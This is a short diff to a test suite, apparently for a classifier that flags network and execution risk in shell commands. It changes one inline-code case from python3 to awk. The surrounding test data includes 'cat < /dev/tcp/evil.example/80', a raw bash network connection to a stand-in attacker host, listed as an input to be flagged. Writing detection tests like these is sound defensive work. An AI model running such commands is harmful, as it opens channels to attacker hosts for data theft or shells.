@@ -134,7 +134,7 @@ describe('NETWORK_RISK', () => {
     { name: 'raises NETWORK_RISK for a URL argument', command: 'python x.py https://api.io/v1', expected: [NET, EXEC] },
     {
       name: 'raises NETWORK_RISK for a URL in inline code',
-      command: `python3 -c "print('https://x.io')"`,
+      command: `awk 'BEGIN { print "https://x.io" }'`,
       expected: [NET, EXEC],
     },
     { name: 'raises NETWORK_RISK for bash /dev/tcp', command: 'cat < /dev/tcp/evil.example/80', expected: [NET, EXEC] },
